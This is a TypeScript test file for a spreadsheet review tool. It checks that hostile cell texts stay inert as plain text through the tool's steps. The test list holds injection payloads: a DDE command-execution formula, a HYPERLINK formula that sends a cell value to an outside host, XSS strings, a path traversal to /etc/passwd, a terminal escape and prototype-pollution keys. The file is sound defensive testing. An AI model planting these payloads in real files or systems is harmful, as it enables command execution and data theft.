import { readFileSync } from "node:fs";
import { compareYears } from "../../src/app/compare-years";
import { findingsToSend } from "../../src/app/findings-to-send";
import { generateSummary } from "../../src/app/generate-summary";
import { highlightChanges } from "../../src/app/highlight-changes";
import { rollForward } from "../../src/app/roll-forward";
import { validateReview } from "../../src/app/validate-review";
import { openWorkbook } from "../../src/xlsx/open-workbook";
import type { Workbook } from "../../src/xlsx/workbook";
import { open, reopen, type OpenedWorkbook } from "../support/open-workbook";

/** What other programs took for a formula, a command, a link, markup, a place in a file or a part of their own. */
const texts = [
  "=1+1",
  '=HYPERLINK("https://elsewhere.example/"&A1,"Open")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "\u200B=1+1",
  "＝1+1",
  "'=1+1",
  `=${"1+".repeat(400)}1`,
  "javascript:alert(1)",
  "<img src=x onerror=alert(1)>",
  "]]><f>1</f>",
  '&P&"x"&[File]',
  "../../../etc/passwd",
  "\u001B]52;c;AAAA\u0007",
  "_x003D_1+1",
  "$&$`$'",
  "__proto__",
  "constructor",
  "toString",
];

const today = { year: 2026, month: 11, day: 23 };

describe("a text in every place of a review is a text in whatever is made of it", () => {
  test.each(texts)("%j", async (text) => {
    const opened = reviewFullOf(text);
    const formulas = formulasOf(opened.workbook);
    const { findings } = await validateReview(opened.port);
    await compareYears(opened.port);
    await highlightChanges(opened.port);
    await generateSummary(opened.port, today);
    await rollForward(opened.port);
    const { workbook } = reopen(opened);

    expect(formulasOf(workbook).filter((formula) => !formulas.includes(formula))).toEqual([]);
    expect(textsOf(workbook).filter((one) => /native code|\[object/.test(one))).toEqual([]);
    expect(textsOf(workbook).some((one) => one.includes(text.trim()))).toBe(true);
    expect(findings.length).toBeGreaterThan(0);

    const sent = findingsToSend(text, findings);
    const cells = [sent.text, ...sent.html.split(/<[^>]*>/)].flatMap((part) => part.split(/[\t\n]/));
    expect(cells.filter((cell) => /^[\s\u200B]*[=+\-@＝]/.test(cell))).toEqual([]);
    expect(sent.html).not.toContain("<img");
    expect({}).not.toHaveProperty("polluted");
    expect(Object.keys(Object.prototype)).toEqual([]);
  });
});

/** The example, with the text in every cell of its tables that holds a text, and as the name of a sheet where Excel takes it. */
function reviewFullOf(text: string): OpenedWorkbook {
  const workbook = openWorkbook(readFileSync(`${__dirname}/../golden/demo/workbook.xlsx`));
  for (const table of workbook.tables) {
    if (table.name === "Checks" || table.name === "Statuses") continue;
    const { worksheet, bodyRange, columns } = table;
    worksheet.forEachCell(bodyRange, ({ value, formula }, rowIndex, columnIndex) => {
      const isKey =
        columnIndex === bodyRange.columnIndex || columns[columnIndex - bodyRange.columnIndex]?.name === "Year";
      if (typeof value !== "string" || value === "" || formula !== null || isKey) return;
      worksheet.writeCell(rowIndex, columnIndex, { type: "text", value: text, formula: null });
    });
  }
  return open(workbook);
}

function formulasOf(workbook: Workbook): string[] {
  return cellsOf(workbook).flatMap(({ formula }) => (formula === null ? [] : [formula]));
}

function textsOf(workbook: Workbook): string[] {
  return cellsOf(workbook).flatMap(({ value }) => (typeof value === "string" ? [value] : []));
}

function cellsOf(workbook: Workbook) {
  return workbook.worksheets.flatMap((worksheet) => {
    const cells: { readonly value: unknown; readonly formula: string | null }[] = [];
    worksheet.forEachCell({ rowIndex: 0, columnIndex: 0, rowCount: 1000, columnCount: 100 }, (cell) =>
      cells.push(cell),
    );
    return cells;
  });
}
